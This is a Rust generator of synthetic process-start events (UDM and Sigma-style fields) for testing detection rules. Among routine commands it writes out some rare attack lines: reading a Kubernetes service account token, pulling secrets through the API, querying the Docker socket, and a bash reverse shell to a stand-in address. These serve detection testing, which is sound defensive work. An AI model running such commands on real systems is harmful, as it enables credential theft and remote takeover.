//! Process starts on invented hosts, as UDM events and with flat field names.
//!
//! Both kinds describe the same starts for the same seed, so that a rule and
//! its twin for another engine can be compared on equal data. One start in a
//! few thousand is an attack: a read service account token, a use of the
//! container socket, a reverse shell.

use std::io::{self, Write};

use super::json::{Json, list, object};
use super::rng::Rng;
use super::words::{APPS, NAMESPACES, instant};

/// Program, then command line with holes: `{h64}` and `{h8}` hexadecimal, `{d}`
/// and `{d2}` numbers, `{p}` a port, `{app}` a workload.
type Command = (&'static str, &'static str);

/// Shares in ten thousandths, roughly.
const COMMANDS: &[(u64, Command)] = &[
    (
        1_800,
        (
            "/usr/bin/runc",
            "runc --root /run/containerd/runc/k8s.io --log /run/containerd/io.containerd.runtime.v2.task/k8s.io/{h64}/log.json --log-format json exec --process /tmp/runc-process{d} --detach --pid-file /run/containerd/io.containerd.runtime.v2.task/k8s.io/{h64}/{h64}.pid {h64}",
        ),
    ),
    (
        1_000,
        (
            "/bin/sh",
            "/bin/sh -c pgrep -x java && test -f /tmp/ready-{d}",
        ),
    ),
    (
        900,
        (
            "/usr/bin/curl",
            "curl -fsS --max-time 5 http://127.0.0.1:{p}/healthz",
        ),
    ),
    (
        800,
        (
            "/usr/bin/python3.11",
            "/usr/bin/python3 /opt/app/{app}/worker.py --queue {app} --concurrency {d} --config /etc/{app}/config.yaml",
        ),
    ),
    (700, ("/usr/bin/grep", "grep -q {app} /proc/{d}/cgroup")),
    (700, ("/usr/bin/cat", "cat /sys/fs/cgroup/memory.current")),
    (
        600,
        (
            "/usr/sbin/iptables",
            "/usr/sbin/iptables -w 5 -W 100000 -S KUBE-SERVICES -t nat",
        ),
    ),
    (
        500,
        (
            "/usr/bin/systemctl",
            "systemctl is-active --quiet {app}.service",
        ),
    ),
    (
        500,
        (
            "/usr/bin/node",
            "node --max-old-space-size=512 /srv/{app}/dist/server.js --port {p}",
        ),
    ),
    (
        500,
        (
            "/usr/bin/java",
            "java -Xms512m -Xmx2048m -XX:+UseG1GC -Djava.security.egd=file:/dev/./urandom -jar /opt/{app}/{app}-1.{d}.jar --spring.profiles.active=prod",
        ),
    ),
    (
        400,
        ("/usr/bin/awk", "awk /MemAvailable/{print $2} /proc/meminfo"),
    ),
    (400, ("/usr/bin/ps", "ps -eo pid,ppid,rss,comm --sort=-rss")),
    (
        300,
        (
            "/usr/bin/find",
            "find /var/log/{app} -type f -mtime +{d2} -name *.log -delete",
        ),
    ),
    (
        300,
        (
            "/usr/bin/git",
            "git fetch --depth=1 origin refs/heads/release-{d2}",
        ),
    ),
    (
        200,
        (
            "/usr/bin/tar",
            "tar -czf /backup/{app}-{d}.tgz -C /var/lib/{app} .",
        ),
    ),
    (
        150,
        (
            "/usr/bin/ssh",
            "ssh -o BatchMode=yes -o ConnectTimeout=5 deploy@10.2.{d2}.7 uptime",
        ),
    ),
    (
        100,
        ("/usr/bin/kubectl", "kubectl get pods -n {app} -o json"),
    ),
    (30, ("/usr/bin/base64", "base64 -d /tmp/{h8}.b64")),
    (
        5,
        (
            "/usr/bin/cat",
            "cat /var/run/secrets/kubernetes.io/serviceaccount/token",
        ),
    ),
    (
        3,
        (
            "/usr/bin/curl",
            "curl -sk -H Authorization:\\ Bearer\\ {h64} https://kubernetes.default.svc/api/v1/namespaces/{app}/secrets",
        ),
    ),
    (
        2,
        (
            "/usr/bin/curl",
            "curl --unix-socket /var/run/docker.sock http://localhost/containers/json?all=1",
        ),
    ),
    (
        1,
        (
            "/usr/bin/bash",
            "bash -i >& /dev/tcp/203.0.113.{d2}/4444 0>&1",
        ),
    ),
];

const PARENTS: &[Command] = &[
    (
        "/usr/bin/containerd-shim-runc-v2",
        "/usr/bin/containerd-shim-runc-v2 -namespace k8s.io -id {h64} -address /run/containerd/containerd.sock",
    ),
    ("/usr/lib/systemd/systemd", "/sbin/init"),
    ("/usr/bin/bash", "-bash"),
    ("/usr/sbin/cron", "/usr/sbin/CRON -f"),
    (
        "/usr/bin/kubelet",
        "/usr/bin/kubelet --config=/etc/kubernetes/kubelet.yaml",
    ),
];

/// User names and numbers, those met more often named more often.
pub const USERS: &[(&str, u64)] = &[
    ("root", 0),
    ("root", 0),
    ("root", 0),
    ("app", 1_000),
    ("app", 1_000),
    ("www-data", 33),
    ("postgres", 112),
    ("deploy", 1_001),
    ("nobody", 65_534),
];

/// A program and its command line with every hole filled.
pub fn command(rng: &mut Rng) -> (&'static str, String) {
    let (image, template) = rng.weighted(COMMANDS);
    (image, fill(rng, template))
}

/// Fills the holes; the same name means the same value within one line.
fn fill(rng: &mut Rng, template: &str) -> String {
    if !template.contains('{') {
        return template.to_owned();
    }
    template
        .replace("{h64}", &rng.hex(64))
        .replace("{h8}", &rng.hex(8))
        .replace("{d}", &rng.range(1, 9_999).to_string())
        .replace("{d2}", &rng.range(1, 250).to_string())
        .replace("{p}", &rng.range(3_000, 9_999).to_string())
        .replace("{app}", rng.one(APPS))
}

struct Start {
    us: u64,
    host: String,
    ip: String,
    user: &'static str,
    pid: String,
    image: &'static str,
    command: String,
    sha256: String,
    parent_pid: String,
    parent_image: &'static str,
    parent_command: String,
    parent_sha256: String,
    container: String,
    namespace: &'static str,
    app: &'static str,
    id: String,
}

/// Writes `count` UDM events of type `PROCESS_LAUNCH`.
pub fn write_udm(out: &mut dyn Write, count: u64, seed: u64) -> io::Result<()> {
    starts(count, seed, |start| {
        out.write_all(udm(start).line().as_bytes())
    })
}

/// Writes the same starts with the field names that Sigma rules use.
pub fn write_flat(out: &mut dyn Write, count: u64, seed: u64) -> io::Result<()> {
    starts(count, seed, |start| {
        out.write_all(flat(start).line().as_bytes())
    })
}

fn starts(count: u64, seed: u64, mut each: impl FnMut(&Start) -> io::Result<()>) -> io::Result<()> {
    let mut rng = Rng::new(seed);
    let hosts: Vec<String> = (0..500).map(|_| format!("node-{}", rng.hex(8))).collect();
    let mut us = 0;
    for _ in 0..count {
        us += rng.range(200, 1_800);
        let (image, command) = command(&mut rng);
        let (parent_image, parent_template) = rng.one(PARENTS);
        let start = Start {
            us,
            host: rng.one(&hosts),
            ip: rng.ip(),
            user: rng.one(USERS).0,
            pid: rng.range(300, 4_000_000).to_string(),
            image,
            command,
            sha256: rng.hex(64),
            parent_pid: rng.range(1, 400_000).to_string(),
            parent_image,
            parent_command: fill(&mut rng, parent_template),
            parent_sha256: rng.hex(64),
            container: rng.hex(64),
            namespace: rng.one(NAMESPACES),
            app: rng.one(APPS),
            id: rng.hex(32),
        };
        each(&start)?;
    }
    Ok(())
}

fn udm(start: &Start) -> Json {
    let label = |key: &str, value: &str| object! { "key" => key, "value" => value };
    object! {
        "metadata" => object! {
            "event_timestamp" => instant(start.us),
            "collected_timestamp" => instant(start.us + 1_500_000),
            "event_type" => "PROCESS_LAUNCH",
            "vendor_name" => "Linux",
            "product_name" => "auditd",
            "product_event_type" => "EXECVE",
            "log_type" => "AUDITD",
            "id" => start.id.as_str(),
        },
        "principal" => object! {
            "hostname" => start.host.as_str(),
            "asset" => object! { "hostname" => start.host.as_str(), "ip" => list![start.ip.as_str()] },
            "ip" => list![start.ip.as_str()],
            "user" => object! { "userid" => start.user },
            "process" => object! {
                "pid" => start.parent_pid.as_str(),
                "command_line" => start.parent_command.as_str(),
                "file" => object! {
                    "full_path" => start.parent_image,
                    "sha256" => start.parent_sha256.as_str(),
                },
            },
        },
        "target" => object! {
            "process" => object! {
                "pid" => start.pid.as_str(),
                "command_line" => start.command.as_str(),
                "file" => object! {
                    "full_path" => start.image,
                    "sha256" => start.sha256.as_str(),
                    "names" => list![file_name(start.image)],
                },
            },
            "resource" => object! {
                "resource_type" => "CONTAINER",
                "product_object_id" => start.container.as_str(),
                "attribute" => object! {
                    "labels" => list![label("namespace", start.namespace), label("app", start.app)],
                },
            },
        },
        "security_result" => list![object! {
            "action" => list!["ALLOW"],
            "severity" => "INFORMATIONAL",
            "rule_labels" => list![label("key", "exec")],
        }],
    }
}

fn flat(start: &Start) -> Json {
    object! {
        "UtcTime" => instant(start.us),
        "EventID" => 1,
        "Computer" => start.host.as_str(),
        "User" => start.user,
        "ProcessId" => start.pid.as_str(),
        "ParentProcessId" => start.parent_pid.as_str(),
        "Image" => start.image,
        "CommandLine" => start.command.as_str(),
        "ParentImage" => start.parent_image,
        "ParentCommandLine" => start.parent_command.as_str(),
        "Hashes" => format!("SHA256={}", start.sha256),
        "CurrentDirectory" => "/",
        "SourceIp" => start.ip.as_str(),
        "ContainerId" => start.container.as_str(),
        "Namespace" => start.namespace,
        "App" => start.app,
    }
}

/// The part of a path after its last slash.
pub fn file_name(path: &str) -> &str {
    path.rsplit('/').next().unwrap_or(path)
}
